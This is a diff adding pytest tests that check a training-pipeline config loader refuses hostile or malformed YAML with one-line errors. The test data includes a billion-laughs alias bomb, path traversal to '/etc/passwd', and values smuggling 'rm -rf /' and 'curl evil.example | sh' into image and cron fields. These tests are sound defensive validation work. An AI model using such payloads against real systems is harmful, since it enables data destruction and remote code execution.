@@ -1,6 +1,8 @@
 """The pipeline config: every error names the field, the bad value and what would be valid."""
 from __future__ import annotations
 
+import os
+import time
 from pathlib import Path
 
 import pytest
@@ -27,7 +29,7 @@ def test_reference_config_loads_with_the_reference_run():
     assert cfg.data.source == "nvidia/AceReason-Math"
     assert cfg.data.fields.question == "problem"
     assert cfg.train.gpus == 3
-    assert cfg.gate.gpu_memory_gib == 48
+    assert cfg.gate.gpu_memory_gib == 44.9
     assert cfg.eval.subjects == ["math"]
     assert cfg.eval.baselines == ["google/gemma-2-2b", "google/gemma-3-12b-it"]
     assert cfg.train.timeout == 8 * 3600
@@ -71,7 +73,7 @@ def test_unknown_subject_lists_the_fourteen():
         (("upload", "repo_id"), "no-slash", "org/name"),
         (("name",), "Not_DNS", "DNS-1123"),
         (("train", "gpus"), 0, "greater than or equal to 1"),
-        (("schedule", "crons"), ["every monday"], "5 fields"),
+        (("schedule", "crons"), ["every monday"], "has 5 fields"),
     ],
 )
 def test_each_invalid_value_is_explained(path, value, expected):
@@ -116,3 +118,167 @@ def test_unreadable_and_non_yaml_files_are_named(tmp_path):
     scalar.write_text("just a string\n")
     with pytest.raises(ConfigError, match="expected a mapping"):
         load_pipeline(scalar)
+
+
+# --- issue 11: hostile and malformed configs, each refused with one line ------------------------
+
+def reference_text() -> str:
+    return REFERENCE.read_text(encoding="utf-8")
+
+
+def load_error(tmp_path: Path, text: str | bytes) -> str:
+    path = tmp_path / "hostile.yaml"
+    if isinstance(text, bytes):
+        path.write_bytes(text)
+    else:
+        path.write_text(text, encoding="utf-8")
+    with pytest.raises(ConfigError) as caught:
+        load_pipeline(path)
+    message = str(caught.value)
+    assert "\n" not in message and "Traceback" not in message
+    return message
+
+
+def with_overrides_yaml(block: str) -> str:
+    """The reference config with `train.overrides` replaced by a YAML block (indented under it)."""
+    indented = "".join(f"    {line}\n" for line in block.strip("\n").splitlines())
+    text = reference_text()
+    assert "  overrides: {}\n" in text
+    return text.replace("  overrides: {}\n", "  overrides:\n" + indented)
+
+
+BILLION_LAUGHS = "\n".join(
+    [f"a0: &a0 [{', '.join(['lol'] * 9)}]"]
+    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
+)
+
+
+def test_item9_alias_bomb_is_refused_quickly(tmp_path):
+    started = time.monotonic()
+    message = load_error(tmp_path, with_overrides_yaml(BILLION_LAUGHS))
+    assert time.monotonic() - started < 5
+    assert "expands to more than" in message and "hostile.yaml" in message
+
+
+def test_item9_recursive_alias_and_deep_nesting_are_one_line(tmp_path):
+    assert "contains it" in load_error(tmp_path, with_overrides_yaml("loop: &loop {again: *loop}"))
+    assert "nested" in load_error(tmp_path, reference_text() + "description: " + "[" * 5000 + "]" * 5000 + "\n")
+
+
+def test_item9_oversized_config_is_refused_before_parsing(tmp_path):
+    padding = "# " + "x" * 1000 + "\n"
+    message = load_error(tmp_path, reference_text() + padding * 1100)
+    assert "at most 1048576 bytes" in message
+
+
+def test_item9_anchors_within_the_budget_still_share_values(tmp_path):
+    text = reference_text().replace(
+        "  tolerations:\n    - key: nvidia.com/gpu\n      operator: Exists\n      effect: NoSchedule\ngate:",
+        "  tolerations: &gpu_taint\n    - key: nvidia.com/gpu\n      operator: Exists\n      effect: NoSchedule\ngate:",
+    ).replace(
+        "  tolerations:\n    - key: nvidia.com/gpu\n      operator: Exists\n      effect: NoSchedule\nupload:",
+        "  tolerations: *gpu_taint\nupload:",
+    )
+    assert "*gpu_taint" in text
+    path = tmp_path / "anchors.yaml"
+    path.write_text(text, encoding="utf-8")
+    cfg = load_pipeline(path)
+    assert cfg.eval.tolerations == cfg.train.tolerations and cfg.eval.tolerations[0].operator == "Exists"
+
+
+def test_item9_a_merged_key_may_be_overridden(tmp_path):
+    text = with_overrides_yaml("base: &base {lr: 1, epochs: 2}\nrun:\n  <<: *base\n  lr: 3")
+    path = tmp_path / "merge.yaml"
+    path.write_text(text, encoding="utf-8")
+    assert load_pipeline(path).train.overrides["run"] == {"lr": 3, "epochs": 2}
+
+
+def test_item9_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path):
+    fifo = tmp_path / "pipe.yaml"
+    os.mkfifo(fifo)
+    with pytest.raises(ConfigError, match="not a regular file"):
+        load_pipeline(fifo)
+
+
+def test_item10_non_utf8_config_is_one_line(tmp_path):
+    text = reference_text().replace("Gemma-2-2B QLoRA", "Gemma-2-2B QLoRA caf\u00e9").encode("latin-1")
+    message = load_error(tmp_path, text)
+    assert "not UTF-8" in message and "0xe9" in message
+
+
+@pytest.mark.parametrize("value", [".inf", "-.inf", ".nan", "9" * 400, "1.0e+400", "2000"])
+def test_item10_gpu_memory_infinite_or_huge_is_one_line(tmp_path, value):
+    message = load_error(tmp_path, reference_text().replace("gpu_memory_gib: 48", f"gpu_memory_gib: {value}"))
+    assert message.startswith(f"{tmp_path / 'hostile.yaml'}: gate.gpu_memory_gib: ")
+    assert len(message) < 300  # a 400-digit value is shortened, not echoed
+
+
+def test_item11_duplicate_key_names_the_key_and_both_lines(tmp_path):
+    text = reference_text().replace("  gpus: 3\n", "  gpus: 3\n  cpu: \"8\"\n")
+    message = load_error(tmp_path, text)
+    first = next(n for n, line in enumerate(text.splitlines(), 1) if line == '  cpu: "8"')
+    assert f"line {first + 1}, column 3: duplicate key 'cpu' (first at line {first})" in message
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "expected"),
+    [
+        (("cluster", "run_as_user"), -1, "greater than or equal to 0"),
+        (("cluster", "run_as_user"), 2**40, "less than or equal to 2147483647"),
+        (("cluster", "images", "train"), "ghcr.io/org/train:1\nrm -rf /", "not an image reference"),
+        (("cluster", "images", "eval"), "GHCR.io/Org/Eval:1", "not an image reference"),
+        (("cluster", "images", "light"), "ghcr.io/org/light:1 --privileged", "not an image reference"),
+        (("schedule", "crons"), ["@reboot; curl evil.example | sh"], "not a descriptor Argo knows"),
+        (("schedule", "crons"), ["@reboot"], "not a descriptor Argo knows"),
+        (("schedule", "crons"), ["61 3 * * 1"], "outside the minute range 0-59"),
+        (("schedule", "crons"), ["0 3 * * 7"], "outside the day of week range 0-6"),
+        (("schedule", "crons"), ["*/0 3 * * 1"], "step"),
+        (("schedule", "crons"), ["0 3 * * 1 2026"], "has 6 field(s)"),
+        (("schedule", "crons"), ["CRON_TZ=Asia/Tokyo 0 3 * * 1"], "set schedule.timezone"),
+        (("schedule", "crons"), ["@every 1 hour"], "not a descriptor"),
+        (("schedule", "timezone"), "Mars/Olympus_Mons", "not an IANA time zone"),
+        (("schedule", "timezone"), "../../etc/passwd", "not an IANA time zone"),
+        (("schedule", "timezone"), "Europe", "not an IANA time zone"),
+        (("eval", "limit"), 1e30, "exceeded maximum size"),
+        (("eval", "limit"), "1e30", "valid integer"),
+        (("eval", "limit"), 10**400, "less than or equal to 1000000"),
+        (("train", "timeout"), "9999999d", "at most 366d"),
+        (("cluster", "namespace"), "../../x?y#", "DNS-1123"),
+    ],
+)
+def test_item11_silently_accepted_values_are_refused(path, value, expected):
+    data = reference_data()
+    target = data
+    for key in path[:-1]:
+        target = target.setdefault(key, {})
+    target[path[-1]] = value
+    message = error_for(data)
+    assert message.startswith(f"test.yaml: {'.'.join(path)}: ") and expected in message, message
+    assert "\n" not in message
+
+
+@pytest.mark.parametrize(
+    "schedule", ["0 3 * * 1", "*/15 * * * *", "0 0 1 jan-mar mon-fri", "5,10 1-5/2 ? * *", "0 3 * * SUN",
+                 "@daily", "@midnight", "@every 1h30m", "@every 90s"])
+def test_item11_schedules_argo_accepts_stay_accepted(schedule):
+    data = reference_data()
+    data["schedule"]["crons"] = [schedule]
+    data["schedule"]["timezone"] = "America/New_York"
+    assert parse_pipeline(data).schedule.crons == [schedule]
+
+
+def test_item11_image_references_with_registry_port_and_digest_are_accepted():
+    data = reference_data()
+    data["cluster"]["images"] = {
+        "light": "localhost:5000/tunebench:dev",
+        "train": "registry.example.com/ml/tunebench-train@sha256:" + "a" * 64,
+        "eval": "tunebench-eval",
+    }
+    assert parse_pipeline(data).cluster.images.eval == "tunebench-eval"
+
+
+def test_a_control_character_in_a_value_cannot_split_the_message():
+    data = reference_data()
+    data["gate"]["mode"] = "fail\n\x1b[31mok"
+    message = error_for(data)
+    assert "\n" not in message and "\x1b" not in message and "\\x1b" in message
